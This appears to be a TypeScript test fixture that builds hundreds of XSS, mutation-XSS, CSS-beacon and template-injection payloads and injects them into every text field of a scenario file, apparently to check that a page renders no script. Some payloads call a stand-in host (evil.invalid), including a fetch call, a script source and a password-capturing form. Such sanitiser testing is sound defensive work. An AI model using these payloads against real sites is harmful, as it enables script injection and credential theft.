/** Texts that would like to be more than text, and a whole small scenario written in them. `hit()` tells that a script ran. */
import { parse } from "yaml";
import { filesOf } from "./folders.ts";

const EVIL = "https://evil.invalid/x";
const CALLS = ["hit()", "alert(1)", "fetch('https://evil.invalid/x')"];
const DATA = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

const tags = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "details open",
  "input autofocus",
  "iframe src=x",
  "object data=x",
  "marquee",
  "math",
  "select autofocus",
  "input type=password placeholder=Password",
  "embed src=x",
  "image href=x",
  "dialog open",
];
const handlers = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart"];
const html = tags.flatMap((tag, t) =>
  handlers.flatMap((on, o) => CALLS.map((call, c) => dressed(`<${tag} ${on}=${call}>`, t + o + c))),
);

/** The same in capitals, with the tag left open, with quotes, with slashes for spaces, or broken out of an attribute. */
function dressed(tag: string, way: number): string {
  return [
    tag,
    tag.toUpperCase().replace(/HIT|ALERT|FETCH/, (w) => w.toLowerCase()),
    tag.slice(0, -1),
    tag.replace(/=([^ =>]+)>$/, '="$1">'),
    tag.replaceAll(" ", "/"),
    `"'>${tag}`,
    `\`${tag}`,
  ][way % 7]!;
}

const scripts = [
  "<script>hit()</script>",
  `<script src=${EVIL}></script>`,
  "</script><script>hit()</script>",
  "<scr<script>ipt>hit()</scr</script>ipt>",
  "<SCRIPT>hit()//",
  "<script\u2028>hit()</script>",
  "<noscript><img src=x onerror=hit()></noscript>",
  "</title><script>hit()</script>",
  "</textarea><script>hit()</script>",
  "<base href=https://evil.invalid/>",
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action=${EVIL}><input name=password><button>Sign in again</button></form>`,
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><set onbegin=hit() attributeName=x>",
  `<svg><use href="${DATA}#x"></use></svg>`,
  "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
  "<svg><a xlink:href=javascript:hit()><text>go</text></a></svg>",
  '<svg><image href="x" onerror="hit()"/></svg>',
  "<svg onload=hit()>",
];

const schemes = [
  "javascript:hit()",
  "JaVaScRiPt:hit()",
  "java\tscript:hit()",
  "&#106;avascript:hit()",
  "vbscript:hit()",
  DATA,
  "data:text/html,<script>hit()</script>",
  "//evil.invalid/x",
];
const wrapped = [
  (to: string) => to,
  (to: string) => `<a href="${to}">go</a>`,
  (to: string) => `[go](${to})`,
  (to: string) => `[go](https://a.invalid "${to}")`,
  (to: string) => `[go]( ${to} 'x' onmouseover=hit())`,
  (to: string) => `![go](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[go]: ${to}`,
  (to: string) => `<iframe src="${to}"></iframe>`,
];
const links = schemes.flatMap((scheme) => wrapped.map((wrap) => wrap(scheme)));

const mutating = (call: string): string[] => [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<select><style></select><img src=x onerror=${call}></style>`,
  `<table><td><form></td></table><form><img src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#x3C;img src=x onerror=${call}&#x3E;`,
  `<p id="\u0000"><img src=x onerror=${call}>`.replace("\u0000", "\u00a0"),
  `<a href="x\u3000onmouseover=${call}">go</a>`,
];

const styles = [
  `<style>@import url(${EVIL});</style>`,
  `<link rel=stylesheet href=${EVIL}>`,
  `<div style="background:url(${EVIL})">x</div>`,
  '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
  `url(${EVIL})`,
  "expression(hit())",
  `<font face="x" style="src:url(${EVIL})">`,
  `<img src=${EVIL}.png>`,
  `<img srcset="${EVIL} 2x">`,
  `![](${EVIL}.png)`,
  `<picture><source srcset=${EVIL}></picture>`,
  `<link rel=preload as=font href=${EVIL}.woff2>`,
  `<video poster=${EVIL}>`,
  `<track src=${EVIL}>`,
  `<input type=image src=${EVIL}>`,
];

/** What a translator, a template or a replacing function would take for its own. */
const others = [
  "$t(appName)",
  "$t(fault_damaged, x)",
  "$& $1 $$ $` $'",
  "%s %d %c",
  "\\u003cimg src=x onerror=hit()\\u003e",
  "<%= hit() %>",
  "#hit()",
  "{",
  "}",
  "}}{{",
  "constructor",
  "\u202Eevil\u202C",
  "\u200B\u200Bx",
  "x\u2028y",
  "'; hit(); //",
  '"; hit(); //',
  "`; hit(); //",
  "-->",
  "]]>",
  "&amp;lt;b&amp;gt;",
];

/** Several hundred different payloads that a scenario may hold as texts. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...html, ...scripts, ...links, ...CALLS.flatMap(mutating), ...styles, ...others]),
].map((p) => p.normalize("NFC"));

/** Texts with braces are placeholders to us, and none of these names is known. */
export const BRACED = [
  "{{hit()}}",
  "{{constructor.constructor('hit()')()}}",
  "$".concat("{hit()}"),
  "#{hit()}",
  "{% raw %}",
  "<style>*{background:url(https://evil.invalid/x)}</style>",
  "{__proto__}",
  "{constructor}",
  "{trust.constructor}",
  "<a style='x:{'>{hit}</a>",
];

const TOLD = new Set([
  "title",
  "text",
  "summary",
  "brief",
  "secret",
  "about",
  "why",
  "short",
  "helps",
  "costs",
  "inspiredBy",
  "statute",
  "question",
  "foils",
  "tells",
  "say",
  "word",
  "term",
  "meaning",
  "voice",
  "gain",
  "remembers",
  "ifLeft",
  "publisher",
  "one",
  "many",
  "aim",
]);
const LISTS = new Set(["dimensions", "facts", "powers", "debrief"]);

/** One chamber with every kind of text that a page shows, and its texts taken in turn from `texts`; the glossary holds them all. */
export function writtenIn(texts: readonly string[], changes: Record<string, unknown> = {}): string {
  const base = parse(filesOf("tests/scenarios/one-chamber")["scenario.yaml"]!) as Record<
    string,
    Record<string, Record<string, unknown>>
  >;
  const voices = { paper: { voice: "v", text: "t", source: "log" }, mayor: { voice: "v", text: "t" } };
  const whole = {
    ...base,
    calendar: { ...base["calendar"], marks: { first: { day: 1, title: "m" }, last: { day: 15, title: "m" } } },
    seats: {
      council: {
        ...base["seats"]!["council"],
        secret: "s",
        objectives: { calm: { title: "o", worth: 1, when: "true" } },
      },
    },
    injects: {
      flyer: {
        title: "t",
        text: "t",
        when: "round == 1",
        answeredBy: ["council"],
        choices: { yes: { title: "t", tells: "t" }, no: { title: "t", tells: "t" } },
        silence: { effects: [], tells: "t" },
        frames: voices,
        sources: ["log"],
      },
      ...base["injects"],
    },
    offers: {
      boat: {
        from: "f",
        title: "t",
        text: "t",
        when: "round == 2",
        gain: "g",
        remembers: "r",
        ifLeft: "i",
        taken: [{ change: "trust", by: 1 }],
        left: [],
        seat: "council",
      },
    },
    endings: { calm: { ...base["endings"]!["calm"], voices }, storm: { ...base["endings"]!["storm"], voices } },
    map: {
      title: "m",
      land: ["M10 10 L200 20 L180 160 Z"],
      places: { quay: { title: "p", x: 60, y: 60 } },
      lines: { cable: { title: "c", path: "M0 0 L300 200", x: 40, y: 40, kind: "cable" } },
    },
    // All for the bill, so that every walk comes to a law that is read back.
    parties: Object.fromEntries(
      Object.entries(base["parties"] ?? {}).map(([id, party]) => [id, { ...party, inclination: 90 }]),
    ),
    // Lawful whatever becomes of the bill, so that every walk comes to its echo.
    responses: { read_on: { ...base["responses"]!["read_on"], power: undefined, clause: undefined } },
    sources: { log: { publisher: "p", title: "t" } },
    debrief: { why: "q" },
    ...changes,
  };
  let next = 0;
  const told = (value: unknown, key: string, parent: string): unknown => {
    if (typeof value === "string" && (TOLD.has(key) || LISTS.has(parent)))
      return `${texts[next++ % texts.length]}${key === "secret" ? " (no public text may hold a secret)" : ""}`;
    if (Array.isArray(value)) return value.map((one) => told(one, key, parent));
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([k, one]) => [k, told(one, k, key)]));
  };
  const glossary = Object.fromEntries(texts.map((text, i) => [`g${i}`, { term: text, meaning: text }]));
  return JSON.stringify({ ...(told(whole, "", "") as object), glossary }, null, 1);
}
